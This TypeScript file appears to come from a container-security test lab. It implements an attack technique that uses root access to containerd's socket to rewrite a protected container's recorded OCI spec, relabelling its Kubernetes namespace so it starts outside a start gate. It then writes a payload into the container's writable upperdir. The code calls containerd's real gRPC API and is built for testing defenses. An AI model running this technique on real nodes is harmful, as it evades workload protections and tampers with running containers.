/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, T1610 Deploy
 * Container, T1574.006 Dynamic Linker Hijacking): root on the node, who
 * holds containerd's socket, rewrites containerd's own record of a protected
 * workload container between CreateContainer and StartContainer: the
 * Containers.Update call replaces the record's OCI spec with one whose CRI
 * annotation names namespace `default`. containerd writes the task's bundle
 * from that record, so the bundle and the record agree, and a start gate
 * that believed the record would start the container ungated: a writable
 * upperdir under its root, which root then writes into, as in
 * upperdir-write. CRI's own memory of the pod is untouched.
 *
 * The call goes to the lab's containerd socket from the harness, which is
 * where root on the node reaches it too (the socket directory is the lab's).
 *
 * What must catch it: the start gate, which holds a workload container's
 * record to the pod CRI created it in (lab/cri/identity.ts).
 */
import * as grpc from '@grpc/grpc-js';
import { fromJSON } from '@grpc/proto-loader';
import { LabError } from '../../errors.ts';
import type { Technique, TechniqueContext } from '../technique.ts';
import { UNPROTECTED } from './bundle-namespace-forge.ts';
import { requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import { tryStart, type StartAttempt } from './start.ts';
import { writeThroughUpperdir } from './upperdir-write.ts';

const NAMESPACE_ANNOTATION = 'io.kubernetes.cri.sandbox-namespace';

/** The attacker's client: containerd's Containers.Get and Containers.Update, by their field numbers (api/services/containers/v1/containers.proto). */
const ATTACKER_API = fromJSON(
  {
    nested: {
      containerd: {
        nested: {
          services: {
            nested: {
              containers: {
                nested: {
                  v1: {
                    nested: {
                      Containers: {
                        methods: {
                          Get: { requestType: 'GetContainerRequest', responseType: 'ContainerResponse' },
                          Update: { requestType: 'UpdateContainerRequest', responseType: 'ContainerResponse' },
                        },
                      },
                      GetContainerRequest: { fields: { id: { type: 'string', id: 1 } } },
                      UpdateContainerRequest: { fields: { container: { type: 'Container', id: 1 }, updateMask: { type: 'FieldMask', id: 2 } } },
                      ContainerResponse: { fields: { container: { type: 'Container', id: 1 } } },
                      FieldMask: { fields: { paths: { rule: 'repeated', type: 'string', id: 1 } } },
                      Any: { fields: { typeUrl: { type: 'string', id: 1 }, value: { type: 'bytes', id: 2 } } },
                      Container: { fields: { id: { type: 'string', id: 1 }, spec: { type: 'Any', id: 5 } } },
                    },
                  },
                },
              },
            },
          },
        },
      },
    },
  } as unknown as Parameters<typeof fromJSON>[0],
  { keepCase: false, defaults: false },
);

type ContainerMessage = { container?: { id?: string; spec?: { typeUrl?: string; value?: Buffer } } };

/** An OCI spec as the attacker edits it. */
export interface EditableSpec {
  annotations?: Record<string, string>;
  process?: {
    args?: string[];
    capabilities?: Partial<Record<'bounding' | 'effective' | 'permitted', string[]>>;
    user?: { uid?: number; gid?: number; additionalGids?: number[] };
    rlimits?: { type: string; hard: number; soft: number }[];
  };
  hooks?: Record<string, { path: string; args?: string[] }[] | undefined>;
  linux?: {
    namespaces?: { type: string; path?: string }[];
    sysctl?: Record<string, string>;
    seccomp?: { defaultAction?: string; syscalls?: { names?: string[]; action?: string }[] } | null;
  };
  mounts?: { destination: string; options?: string[] }[];
}

/**
 * Rewrites the OCI spec in containerd's record of container `id` (k8s.io)
 * with `edit`, through Containers.Update on containerd's socket; what `edit`
 * returns (the attacker's evidence).
 */
export async function updateRecordedSpec<T>(socket: string, id: string, edit: (spec: EditableSpec) => T): Promise<T> {
  const loaded = grpc.loadPackageDefinition(ATTACKER_API) as unknown as { containerd: { services: { containers: { v1: { Containers: grpc.ServiceClientConstructor } } } } };
  const client = new loaded.containerd.services.containers.v1.Containers(`unix://${socket}`, grpc.credentials.createInsecure()) as unknown as grpc.Client &
    Record<'Get' | 'Update', (req: unknown, md: grpc.Metadata, opts: grpc.CallOptions, cb: (err: grpc.ServiceError | null, res?: ContainerMessage) => void) => void>;
  const call = (method: 'Get' | 'Update', req: unknown) =>
    new Promise<ContainerMessage>((resolve, reject) => {
      const md = new grpc.Metadata();
      md.set('containerd-namespace', 'k8s.io');
      client[method](req, md, { deadline: Date.now() + 10_000 }, (err, res) => (err ? reject(new LabError<AttackErrorCode>('ATTACK_FAILED', `containerd ${method} of container ${id}: ${err.details}`)) : resolve(res ?? {})));
    });
  try {
    const got = await call('Get', { id });
    const any = got.container?.spec;
    if (!any?.value) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `containerd's record of ${id} holds no spec`);
    const spec = JSON.parse(any.value.toString('utf8')) as EditableSpec;
    const result = edit(spec);
    await call('Update', { container: { id, spec: { typeUrl: any.typeUrl, value: Buffer.from(JSON.stringify(spec)) } }, updateMask: { paths: ['spec'] } });
    return result;
  } finally {
    client.close();
  }
}

/**
 * Starts the target workload as the node would, with `edit` applied to
 * containerd's record of each of its containers between CreateContainer
 * and StartContainer (updateRecordedSpec). Gives the start attempt and the
 * attacker's evidence: the socket, and per container what `edit` reported.
 * No container created means no record was edited: the attack could not be
 * carried out, which is an error, never an outcome.
 */
export async function startWithRecordEdited(
  { node, workload, pods }: Pick<TechniqueContext, 'node' | 'workload' | 'pods'>,
  edit: (spec: EditableSpec) => Record<string, unknown>,
): Promise<{ start: StartAttempt; evidence: Record<string, unknown> }> {
  const socket = node.cri.address.replace(/^unix:\/\//, '');
  const updated: Record<string, unknown>[] = [];
  const start = await tryStart(node, workload, pods, {
    beforeStart: async (id) => {
      updated.push({ container: id, ...(await updateRecordedSpec(socket, id, edit)) });
    },
  });
  if (updated.length === 0) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `no container of ${workload.spec.namespace}/${workload.metadata.name} was created, so no record was updated: ${start.started ? 'started' : start.reason}`);
  return { start, evidence: { containerdSocket: socket, recordsUpdated: updated } };
}

export const containerdRecordUpdate: Technique = {
  name: 'containerd-record-update',
  async run({ node, attack, workload, pods }) {
    const path = requirePath(attack);
    const payload = requirePayload(attack);
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec) => {
      const before = spec.annotations?.[NAMESPACE_ANNOTATION];
      spec.annotations = { ...spec.annotations, [NAMESPACE_ANNOTATION]: UNPROTECTED };
      return { before, after: UNPROTECTED };
    });
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after containerd's record of it was made to name namespace ${UNPROTECTED}: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const written = await writeThroughUpperdir(node, start.pod, path, payload);
    const all = { ...evidence, ...written.evidence };
    if (written.effect) return { effect: true, reason: `${workload.spec.namespace}/${workload.metadata.name} started after containerd's record of it was made to name namespace ${UNPROTECTED}, and ${written.reason}`, evidence: all };
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${workload.spec.namespace}/${workload.metadata.name} started from an updated record but ${written.reason}: the changed namespace did not reach the start gate`);
  },
};
